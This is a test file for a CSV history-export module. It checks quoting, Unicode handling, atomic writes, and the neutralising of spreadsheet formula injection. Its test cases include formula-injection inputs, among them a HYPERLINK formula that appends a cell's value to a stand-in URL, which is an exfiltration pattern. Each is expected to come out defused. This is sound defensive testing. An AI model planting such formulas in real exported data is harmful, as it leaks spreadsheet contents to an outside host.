// The history export as a spreadsheet app will see it: every awkward name written and then read
// back with a real CSV parser (csv-parse), so quoting mistakes show up as changed values, and
// every cell a spreadsheet would run as a formula arriving as text instead.
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  neutraliseFormula,
  toCsv,
  writeFileAtomically,
  type CsvCell,
} from '../../electron/services/export/csv.ts';

const BOM = '\uFEFF';

/** Reads the file as a spreadsheet would: the BOM says UTF-8, the rest is RFC 4180. */
function readBack(text: string): string[][] {
  expect(text.startsWith(BOM)).toBe(true);
  return parse(text.slice(BOM.length), { relax_column_count: false }) as string[][];
}

describe('toCsv', () => {
  it('starts with a BOM, ends every line with CRLF and leaves plain cells unquoted', () => {
    expect(toCsv(['Name', 'Count'], [['Ada', 3]])).toBe(`${BOM}Name,Count\r\nAda,3\r\n`);
  });

  it('writes only the header line for no rows', () => {
    expect(toCsv(['Name'], [])).toBe(`${BOM}Name\r\n`);
  });

  it('reads back awkward names exactly, with formula prefixes neutralised', () => {
    const cases: [written: CsvCell, readBack: string][] = [
      ['O"Brien', 'O"Brien'],
      ['"quoted"', '"quoted"'],
      ['Smith, Jane', 'Smith, Jane'],
      ['two\nlines', 'two\nlines'],
      ['two\r\nlines', 'two\r\nlines'],
      ['carriage\rreturn', 'carriage\rreturn'],
      ['Zoë 🦊 👩🏽‍💻', 'Zoë 🦊 👩🏽‍💻'],
      ['محمد العلي', 'محمد العلي'],
      ['דוד כהן', 'דוד כהן'],
      ['\u202Eevil\u202C', '\u202Eevil\u202C'],
      [' padded ', ' padded '],
      ['=1+1', "'=1+1"],
      [
        '=HYPERLINK("https://example.invalid/?"&A1,"Click")',
        '\'=HYPERLINK("https://example.invalid/?"&A1,"Click")',
      ],
      ['+14155550132', "'+14155550132"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', "'\r=1+1"],
      ['  =1+1', "'  =1+1"],
      ["'already", "'already"],
      ['a=b', 'a=b'],
      ['', ''],
      [null, ''],
      [undefined, ''],
      [0, '0'],
      [-3, '-3'],
      [1.5, '1.5'],
      [14155550132, '14155550132'],
      [Number.NaN, 'NaN'],
      [Number.NEGATIVE_INFINITY, "'-Infinity"],
      [true, 'true'],
      [false, 'false'],
    ];
    const text = toCsv(
      ['written', 'after'],
      cases.map(([value]) => [value, 'end']),
    );
    expect(readBack(text)).toEqual([
      ['written', 'after'],
      ...cases.map(([, expected]) => [expected, 'end']),
    ]);
  });

  it('neutralises the header too', () => {
    expect(readBack(toCsv(['=cmd', 'Name'], []))).toEqual([["'=cmd", 'Name']]);
  });

  it('quotes only what RFC 4180 needs, doubling quotes inside', () => {
    const text = toCsv(
      ['a', 'b', 'c', 'd', 'e'],
      [['x,y', 'say "hi"', 'line\nbreak', ' lead', 'plain']],
    );
    expect(text).toBe(`${BOM}a,b,c,d,e\r\n"x,y","say ""hi""","line\nbreak"," lead",plain\r\n`);
  });

  it('separates rows by CRLF only: every bare LF or CR is inside a quoted cell', () => {
    const text = toCsv(['Name'], [['a\nb'], ['c\rd'], ['e']]);
    const outsideQuotes = text.replace(/"(?:[^"]|"")*"/g, '');
    expect(outsideQuotes.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(outsideQuotes.split('\r\n')).toHaveLength(5);
  });

  it('exports 100,000 rows quickly', () => {
    function* rows(): Generator<CsvCell[]> {
      for (let i = 0; i < 100_000; i++) {
        yield [`+1415${String(i).padStart(7, '0')}`, `Name ${i}, "Jr"`, i % 2 === 0, i];
      }
    }
    const started = performance.now();
    const text = toCsv(['Phone', 'Name', 'Active', 'Id'], rows());
    const elapsed = performance.now() - started;
    expect(elapsed).toBeLessThan(2_000);
    const records = readBack(text);
    expect(records).toHaveLength(100_001);
    expect(records[100_000]).toEqual(["'+14150099999", 'Name 99999, "Jr"', 'false', '99999']);
  });
});

describe('neutraliseFormula', () => {
  it('leaves ordinary text alone', () => {
    for (const text of ['Ada Lovelace', 'a-b', 'x@y.z', '1+1', '']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });
});

describe('writeFileAtomically', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'csv-export-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('writes UTF-8 with the BOM bytes and replaces an existing file, leaving no temporary', async () => {
    const path = join(dir, 'history.csv');
    await writeFile(path, 'old contents');
    const text = toCsv(['Name'], [['Zoë']]);
    await writeFileAtomically(path, text);
    const bytes = await readFile(path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toBe(text);
    expect(await readdir(dir)).toEqual(['history.csv']);
  });

  it('fails without leaving anything behind when the folder does not exist', async () => {
    const missing = join(dir, 'missing', 'history.csv');
    await expect(writeFileAtomically(missing, 'x')).rejects.toMatchObject({ code: 'ENOENT' });
    expect(await readdir(dir)).toEqual([]);
  });

  it('removes its temporary file when the rename fails', async () => {
    // A non-empty folder in the way: the rename fails after the temporary file was written.
    const target = join(dir, 'taken');
    await mkdir(target);
    await writeFile(join(target, 'inside'), 'x');
    await expect(writeFileAtomically(target, 'new')).rejects.toThrow();
    expect(await readdir(dir)).toEqual(['taken']);
  });
});
